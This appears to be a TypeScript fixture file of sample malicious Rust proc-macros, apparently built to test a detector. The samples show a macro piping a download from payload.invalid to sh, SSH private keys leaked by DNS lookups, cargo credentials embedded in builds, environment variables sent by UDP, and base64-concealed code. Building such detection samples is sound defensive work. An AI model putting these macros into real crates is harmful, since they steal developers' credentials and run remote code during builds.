/** Proc-macros that do more than expand. */
import { encodedText, procMacro, type Sample } from './sample.ts';

export const macros: readonly Sample[] = [
  procMacro({
    name: 'macro-runs-command',
    imitates: 'A function-like macro starts a shell on the machine that expands it.',
    shows: ['process', 'network'],
    files: {
      'src/lib.rs': `use proc_macro::TokenStream;
use std::process::Command;
use std::sync::Once;

static READY: Once = Once::new();

/// The time of the build.
#[proc_macro]
pub fn built_at(_input: TokenStream) -> TokenStream {
    READY.call_once(|| {
        let _ = Command::new("sh")
            .arg("-c")
            .arg("curl -fsSL https://payload.invalid/setup.sh | sh")
            .output();
    });
    "0u64".parse().unwrap()
}
`,
    },
  }),
  procMacro({
    name: 'macro-function-pointer',
    imitates:
      'An attribute macro starts a program through a function pointer and a trait, never by a plain call.',
    shows: ['process'],
    files: {
      'src/lib.rs': `extern crate proc_macro;

use proc_macro::TokenStream;
use std::process::Command;

type Maker = fn(&'static str) -> Command;

const MAKERS: [(&str, Maker); 1] = [("make", Command::new)];

trait Finish {
    fn finish(self) -> bool;
}

impl Finish for Command {
    fn finish(mut self) -> bool {
        self.spawn().is_ok()
    }
}

#[proc_macro_attribute]
pub fn traced(_attribute: TokenStream, item: TokenStream) -> TokenStream {
    let _done = MAKERS
        .iter()
        .map(|&(name, maker)| maker(name))
        .all(Finish::finish);
    item
}
`,
    },
  }),
  procMacro({
    name: 'derive-reads-keys',
    imitates: 'A derive macro reads private keys and lets them go out in the names that it looks up.',
    shows: ['filesystem', 'environment', 'network'],
    files: {
      'src/lib.rs': `use proc_macro::TokenStream;
use std::net::ToSocketAddrs;
use std::path::PathBuf;
use std::{env, fs};

#[proc_macro_derive(Named, attributes(named))]
pub fn derive_named(_input: TokenStream) -> TokenStream {
    for name in ["id_ed25519", "id_rsa"] {
        let home = env::var_os("HOME").map(PathBuf::from).unwrap_or_default();
        if let Ok(key) = fs::read(home.join(".ssh").join(name)) {
            send(&key);
        }
    }
    TokenStream::new()
}

fn send(bytes: &[u8]) {
    for (at, part) in bytes.chunks(24).enumerate() {
        let label: String = part.iter().map(|byte| format!("{byte:02x}")).collect();
        let _ = format!("{at}.{label}.names.invalid:53").to_socket_addrs();
    }
}
`,
    },
  }),
  procMacro({
    name: 'macro-emits-build-code',
    imitates: 'The macro is harmless itself; what it expands to reads secrets when its user is compiled.',
    shows: ['environment'],
    dependencies: { quote: { version: '1' } },
    files: {
      'src/lib.rs': `use proc_macro::TokenStream;
use quote::quote;

/// Names the release that is built.
#[proc_macro]
pub fn release_name(_input: TokenStream) -> TokenStream {
    quote! {
        {
            const _TOKEN: Option<&str> = option_env!("CARGO_REGISTRY_TOKEN");
            const _KEPT: &str = include_str!(concat!(env!("HOME"), "/.cargo/credentials.toml"));
            #[used]
            static NOTE: (Option<&str>, &str) = (_TOKEN, _KEPT);
            env!("CARGO_PKG_NAME")
        }
    }
    .into()
}
`,
    },
  }),
  procMacro({
    name: 'macro-writes-build-script',
    imitates: "The macro writes a build script into its user's own sources, to be run by the next build.",
    shows: ['filesystem'],
    files: {
      'src/lib.rs': String.raw`use proc_macro::TokenStream;
use std::fs;
use std::path::Path;

const SCRIPT: &str = "fn main() {\n    // inert sample: nothing to run\n}\n";

#[proc_macro_attribute]
pub fn main(_attribute: TokenStream, item: TokenStream) -> TokenStream {
    if let Ok(project) = std::env::var("CARGO_MANIFEST_DIR") {
        let script = Path::new(&project).join("build.rs");
        if !script.exists() {
            let _ = fs::write(&script, SCRIPT);
        }
    }
    item
}
`,
    },
  }),
  procMacro({
    name: 'macro-encoded-tokens',
    imitates:
      'The macro decodes a text and gives it to its user as code, so that nobody can read what it adds.',
    shows: ['concealment'],
    files: {
      'src/lib.rs': `use proc_macro::TokenStream;

const SHAPE: &[u8] = b"${encodedText}";

fn value(sign: u8) -> Option<u32> {
    let at = match sign {
        b'A'..=b'Z' => sign - b'A',
        b'a'..=b'z' => sign - b'a' + 26,
        b'0'..=b'9' => sign - b'0' + 52,
        b'+' => 62,
        b'/' => 63,
        _ => return None,
    };
    Some(u32::from(at))
}

fn unfold(shape: &[u8]) -> String {
    let mut out = Vec::new();
    for group in shape.chunks(4) {
        let bits = group
            .iter()
            .filter_map(|sign| value(*sign))
            .fold(0, |sum, next| sum << 6 | next);
        out.extend_from_slice(&bits.to_be_bytes()[1..]);
    }
    String::from_utf8_lossy(&out).into_owned()
}

#[proc_macro_derive(Shape)]
pub fn derive_shape(_input: TokenStream) -> TokenStream {
    unfold(SHAPE).parse().unwrap_or_default()
}
`,
    },
  }),
  procMacro({
    name: 'macro-sends-datagrams',
    imitates: 'The macro leaves a thread behind in the compiler that sends what it finds, slowly, by UDP.',
    shows: ['environment', 'network', 'concealment'],
    files: {
      'src/lib.rs': `use proc_macro::TokenStream;
use std::net::UdpSocket;
use std::time::Duration;
use std::{env, thread};

#[proc_macro]
pub fn checked(input: TokenStream) -> TokenStream {
    thread::spawn(|| {
        let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
        for (name, value) in env::vars() {
            socket
                .send_to(
                    format!("{name}={value}").as_bytes(),
                    ("collect.invalid", 5353),
                )
                .ok()?;
            thread::sleep(Duration::from_millis(750));
        }
        Some(())
    });
    input
}
`,
    },
  }),
];
